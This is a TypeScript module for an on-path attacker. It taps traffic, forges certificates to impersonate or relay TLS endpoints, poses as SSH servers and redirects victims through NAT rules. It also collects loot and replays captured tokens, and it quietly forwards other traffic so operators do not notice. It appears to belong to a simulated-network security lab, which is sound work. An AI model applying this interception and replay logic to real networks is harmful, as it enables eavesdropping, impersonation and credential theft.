import { setImmediate as nextTurn } from 'node:timers/promises';
import { type Connection, type Endpoint, joinHostPort, type Listener } from '../network/network';
import type { TlsVersion } from '../network/secure';
import { TlsAcceptor } from '../network/secure-server';
import { generateSshKey, type SshKey } from '../pki/ssh-key';
import { type Randomness, systemRandomness } from '../randomness';
import type { KeyPair } from '../wire/pem';
import { CertificateForge, describeKeyPair } from './certificate';
import { GenuineEndpoint } from './genuine';
import type { AttackHooks } from './hooks';
import { InterceptedConnection, type Interception } from './intercept';
import { HANDSHAKE_MS, MAX_CHANNELS, MAX_CONNECTIONS } from './limits';
import { type Loot, LootBag } from './loot';
import { OpenSockets } from './open-sockets';
import type { FixedRedirect, RedirectPlaces } from './play-redirect';
import type { OnPathHost, Position, SlowUndo, Undo } from './position';
import { RedirectRecord } from './redirect-record';
import { passBytes } from './relay-raw';
import { replayLoot } from './replay';
import type { Rule } from './rules';
import { WireTap } from './tap';

export interface AttackPlan {
  readonly technique: string;
  /** The genuine endpoints to be taken, by their genuine addresses. */
  readonly targets: readonly Endpoint[];
  readonly position: Position;
  /** The certificate to show; null: one that the attacker makes itself. */
  readonly present: KeyPair | null;
  readonly mode: 'tap' | 'impersonate' | 'relay';
  /** The host key to show to who speaks SSH, PEM; without it one that the attacker makes itself. */
  readonly hostKey?: string;
  /** With `tap`: the genuine endpoint to which the bytes are led, untouched, instead of the one that was dialled. */
  readonly steerTo?: Endpoint;
  /** In tunnels that are taken: only channels to there are attacked, others are passed on as they are. Default: all. */
  readonly channelsTo?: Endpoint;
  /** What the victim is told. */
  readonly forged: string;
  /** What is slipped in on the way to the genuine endpoint. */
  readonly tampered: string;
  /** What a relay changes in the streams, instead of slipping the two texts in. */
  readonly rules?: readonly Rule[];
  /** Called for what comes to the attacker. */
  readonly hooks?: AttackHooks;
  /** With `redirect`: where everybody is sent, instead of to places of the attacker's own. */
  readonly redirectTo?: FixedRedirect;
  /** Accept this version and no other. */
  readonly tlsVersion?: TlsVersion;
  /** How the victim calls the targets, when it is not by their address: what its server name indication says. */
  readonly dialledAs?: string;
  /** The apiserver: for `rogue-ca`, where the authority's name can be read; for `replay`, who knows tokens. Default: the target. */
  readonly authorityAt?: Endpoint;
}

export interface Attack extends AsyncDisposable {
  readonly loot: Loot;
  /** Gives the position back and closes everything; what the victim is just saying is heard out first. Idempotent. */
  withdraw(): Promise<void>;
}

interface OpenedPlaces {
  readonly to: RedirectPlaces | FixedRedirect;
  answered(status: number, location: string): void;
}

/** How long a victim's handshake that is under way is waited for when the attacker withdraws. */
const LAST_HANDSHAKES_MS = 500;

/** A machine that attacks from its place on the network, with what it can make itself or was handed. */
export class Attacker {
  readonly #host: OnPathHost;
  readonly #forge: CertificateForge;
  readonly #random: Randomness;
  #ownHostKey: Promise<SshKey> | null = null;
  /** A secure context is dear: one for each key pair and version. */
  readonly #acceptors = new WeakMap<KeyPair, Map<TlsVersion | 'any', TlsAcceptor>>();

  /** `random`: where the keys come from that it makes itself; default: the system's. */
  constructor({ host, random = systemRandomness }: { host: OnPathHost; random?: Randomness }) {
    this.#host = host;
    this.#random = random;
    this.#forge = new CertificateForge(host, random);
  }

  /** Stands ready to answer, then takes the position. */
  async attack(plan: AttackPlan): Promise<Attack> {
    const attack = new OngoingAttack(this.#host);
    // Only when nobody's traffic is diverted any more: what is replayed goes to the genuine server.
    if (plan.technique === 'replay') attack.afterwards(() => this.#replay(plan, attack.loot));
    try {
      if (plan.mode === 'tap') await this.#tap(plan, attack);
      else await this.#intercept(plan, plan.mode, attack);
      await attack.take(plan.position);
    } catch (error) {
      await attack.withdraw();
      throw error;
    }
    return attack;
  }

  async #replay({ targets, authorityAt }: AttackPlan, loot: LootBag): Promise<void> {
    for (const genuine of targets) {
      // Whom nobody shook hands with is not talked to in TLS.
      const tls = loot.handshakes.length > 0;
      await replayLoot(this.#host, { genuine, tls, apiserver: authorityAt ?? genuine }, loot);
    }
  }

  async #tap(plan: AttackPlan, attack: OngoingAttack): Promise<void> {
    const tap = new WireTap(this.#host, attack.loot);
    if (plan.position.arrival === 'forwarded') {
      attack.forwardOthers();
      if (this.#host.tap !== null && plan.steerTo === undefined) {
        attack.undoLater(
          this.#host.tap(({ connection, to, direction, bytes }) => {
            if (plan.targets.some((target) => isSame(target, to))) tap.see(connection, direction, bytes);
          }),
        );
        return;
      }
    }
    for (const target of plan.targets) {
      await attack.listen(target, plan.position, async (connection) => {
        const to = plan.steerTo ?? target;
        const genuine = await new GenuineEndpoint(this.#host, to, attack.held).reach({
          kind: 'plaintext',
        });
        if (plan.steerTo !== undefined) {
          this.#host.timeline.record(this.#host.name, connection.id, 'connection-steered', {
            from: joinHostPort(target.address, target.port),
            to: joinHostPort(to.address, to.port),
          });
        }
        if (genuine.kind === 'refusal') connection.socket.destroy();
        else {
          passBytes(connection.socket, genuine.socket, (direction, bytes) =>
            tap.see(connection.id, direction, bytes),
          );
        }
      });
    }
  }

  async #intercept(plan: AttackPlan, mode: 'impersonate' | 'relay', attack: OngoingAttack): Promise<void> {
    const { technique, targets, position, forged, tampered, rules, hooks } = plan;
    attack.forwardOthers();
    const redirect = technique === 'redirect' ? await this.#whereTo(plan, attack) : null;
    const interceptions = new Map<string, Promise<Interception>>();
    const interceptionOf = async (target: Endpoint, takenHost: string): Promise<Interception> => {
      const authorityAt = plan.authorityAt ?? target;
      const keyPair = plan.present ?? (await this.#forge.forge(technique, takenHost, authorityAt));
      return {
        host: this.#host,
        genuine: target,
        script: {
          mode,
          forged,
          tampered,
          ...(redirect === null ? {} : { redirect: redirect.to }),
          ...(rules === undefined ? {} : { rules }),
        },
        ...(hooks === undefined ? {} : { hooks }),
        acceptor: this.#acceptor(keyPair, plan.tlsVersion),
        shown: describeKeyPair(technique, keyPair),
        loot: attack.loot,
        held: attack.held,
        sshd: { hostKey: () => this.#hostKeyFor(plan), onChannel },
        ...(redirect === null ? {} : { onRedirect: redirect.answered }),
      };
    };
    const onChannel = (connection: Connection, to: Endpoint): void =>
      attack.hear(connection, async () => {
        if (plan.channelsTo !== undefined && !isSame(plan.channelsTo, to)) return passOn(connection, to);
        const key = joinHostPort(to.address, to.port);
        const shared = interceptions.get(key) ?? interceptionOf(to, to.address);
        // As many as a victim likes to name, and none of them kept for longer than it is worth.
        if (interceptions.size < MAX_CHANNELS) interceptions.set(key, shared);
        // The name is the victim's: it may be one that no certificate can be made for.
        const interception = await shared.catch(() => null);
        if (interception === null) connection.socket.destroy();
        else await new InterceptedConnection(connection, interception).run();
      });
    const passOn = async ({ socket }: Connection, to: Endpoint): Promise<void> => {
      const genuine = await new GenuineEndpoint(this.#host, to, attack.held).reach({ kind: 'plaintext' });
      if (genuine.kind === 'refusal') socket.destroy();
      else passBytes(socket, genuine.socket, () => undefined);
    };
    for (const target of targets) {
      const shared = await interceptionOf(target, plan.dialledAs ?? position.takenName ?? target.address);
      await attack.listen(target, position, (connection) =>
        new InterceptedConnection(connection, shared).run(),
      );
    }
  }

  async #whereTo(plan: AttackPlan, attack: OngoingAttack): Promise<OpenedPlaces> {
    const { redirectTo } = plan;
    if (redirectTo === undefined) return this.#openPlaces(plan, attack);
    return { to: redirectTo, answered: () => undefined };
  }

  /** Its own, one for all that it poses as, unless it got hold of a genuine one. */
  async #hostKeyFor({ hostKey }: AttackPlan): Promise<string> {
    if (hostKey !== undefined) return hostKey;
    this.#ownHostKey ??= generateSshKey('ec-p256', this.#random.for('host key'));
    return (await this.#ownHostKey).privateKeyPem;
  }

  /** Two servers at the attacker's own address, without TLS and with a certificate that it makes itself. */
  async #openPlaces({ forged, tampered }: AttackPlan, attack: OngoingAttack): Promise<OpenedPlaces> {
    const address = this.#host.addresses[0] ?? '0.0.0.0';
    const keyPair = await this.#forge.forge('self-signed', address, { address, port: 0 });
    const record = new RedirectRecord(attack.loot.redirects);
    const open = async (scheme: 'http' | 'https'): Promise<string> => {
      const arrivals = record.of(scheme);
      const at = await attack.listenAt({ address, port: 0 }, (connection, genuine) =>
        new InterceptedConnection(connection, {
          host: this.#host,
          genuine,
          script: { mode: 'impersonate', forged, tampered },
          acceptor: this.#acceptor(keyPair, undefined),
          shown: describeKeyPair('self-signed', keyPair),
          loot: attack.loot,
          held: attack.held,
          arrivals,
        }).run(),
      );
      return `${scheme}://${joinHostPort(at.address, at.port)}`;
    };
    const places = { plain: await open('http'), tls: await open('https') };
    return { to: places, answered: (status, location) => record.answered(status, location) };
  }

  #acceptor(keyPair: KeyPair, version: TlsVersion | undefined): TlsAcceptor {
    const byVersion = this.#acceptors.get(keyPair) ?? new Map<TlsVersion | 'any', TlsAcceptor>();
    this.#acceptors.set(keyPair, byVersion);
    const known = byVersion.get(version ?? 'any');
    if (known !== undefined) return known;
    const acceptor = new TlsAcceptor({
      keyPair,
      requestClientCertificate: true,
      alpn: ['http/1.1'],
      timeoutMs: HANDSHAKE_MS,
      keysFor: this.#host,
      ...(version === undefined ? {} : { minVersion: version, maxVersion: version }),
    });
    byVersion.set(version ?? 'any', acceptor);
    return acceptor;
  }
}

class OngoingAttack implements Attack {
  readonly loot = new LootBag();
  readonly held = new OpenSockets();
  readonly #host: OnPathHost;
  readonly #undos: (Undo | SlowUndo)[] = [];
  readonly #listeners: Listener[] = [];
  readonly #conversations = new Set<Promise<void>>();
  #accepted = 0;
  #withdrawn: Promise<void> | null = null;
  #afterwards: () => Promise<void> = async () => undefined;

  constructor(host: OnPathHost) {
    this.#host = host;
  }

  /** What is done with the loot when the path has been given back. */
  afterwards(work: () => Promise<void>): void {
    this.#afterwards = work;
  }

  undoLater(undo: Undo | SlowUndo): void {
    this.#undos.push(undo);
  }

  /** What is not attacked must still arrive, or the victim's operator would notice at once. */
  forwardOthers(): void {
    const before = this.#host.forwards;
    this.#host.forwards = true;
    this.undoLater(() => {
      this.#host.forwards = before;
    });
  }

  async take(position: Position): Promise<void> {
    const what = position.describe();
    this.undoLater(await position.take());
    this.#host.timeline.record(this.#host.name, null, 'position-taken', { describe: what });
    this.undoLater(() =>
      this.#host.timeline.record(this.#host.name, null, 'position-withdrawn', { describe: what }),
    );
  }

  /** A listener that nobody is led to by the network; `converse` is told where it is. */
  async listenAt(
    at: Endpoint,
    converse: (connection: Connection, at: Endpoint) => Promise<void>,
  ): Promise<Endpoint> {
    const listener = await this.#host.listen(at, (connection) =>
      this.hear(connection, (it) => converse(it, listener.at)),
    );
    this.#listeners.push(listener);
    return { address: at.address, port: listener.at.port };
  }

  /** A listener of its own for each target, so that it is known without asking anybody where a connection wanted to go. */
  async listen(
    target: Endpoint,
    position: Position,
    converse: (connection: Connection) => Promise<void>,
  ): Promise<void> {
    const address = this.#host.addresses[0] ?? '0.0.0.0';
    const port = position.arrival === 'forwarded' ? 0 : (position.dialled?.port ?? target.port);
    const listener = await this.#host.listen({ address, port }, (connection) =>
      this.hear(connection, converse),
    );
    this.#listeners.push(listener);
    if (position.arrival === 'forwarded') {
      const { dialled = target, chains = ['prerouting'] } = position;
      for (const chain of chains) {
        this.undoLater(await this.#host.nat.redirect({ to: dialled, toPort: listener.at.port, chain }));
      }
    }
  }

  hear(connection: Connection, converse: (connection: Connection) => Promise<void>): void {
    this.held.add(connection.socket);
    if (this.#accepted >= MAX_CONNECTIONS) {
      this.loot.countRefusedConnection();
      connection.socket.destroy();
      return;
    }
    this.#accepted += 1;
    connection.socket.once('close', () => {
      this.#accepted -= 1;
    });
    // A fault of ours that one victim brought out ends its connection, and no other's.
    const conversation = converse(connection).catch((error: unknown) => {
      this.#host.timeline.record(this.#host.name, connection.id, 'connection-failed', { text: `${error}` });
      connection.socket.destroy();
    });
    this.#conversations.add(conversation);
    void conversation.finally(() => this.#conversations.delete(conversation));
  }

  withdraw(): Promise<void> {
    this.#withdrawn ??= this.#giveBack().then(() => this.#afterwards());
    return this.#withdrawn;
  }

  [Symbol.asyncDispose](): Promise<void> {
    return this.withdraw();
  }

  async #giveBack(): Promise<void> {
    try {
      for (const undo of this.#undos.reverse()) await undo();
      // A refusal may be known to the victim before its alert is read here, and the alert belongs into the loot.
      await settledWithin(LAST_HANDSHAKES_MS, [...this.#conversations]);
      // A stream that node:http was given a moment ago is not closed under its hands.
      await nextTurn();
    } finally {
      await Promise.all(this.#listeners.map((listener) => listener.close()));
      await this.held.close();
    }
  }
}

/** Waits for all of them; those that a victim never ends are not waited for longer than this. */
async function settledWithin(deadlineMs: number, promises: readonly Promise<void>[]): Promise<void> {
  if (promises.length === 0) return;
  let timer: NodeJS.Timeout | undefined;
  const deadline = new Promise<void>((resolve) => {
    timer = setTimeout(resolve, deadlineMs);
  });
  await Promise.race([Promise.allSettled(promises), deadline]);
  clearTimeout(timer);
}

function isSame(a: Endpoint, b: Endpoint): boolean {
  return a.address === b.address && a.port === b.port;
}
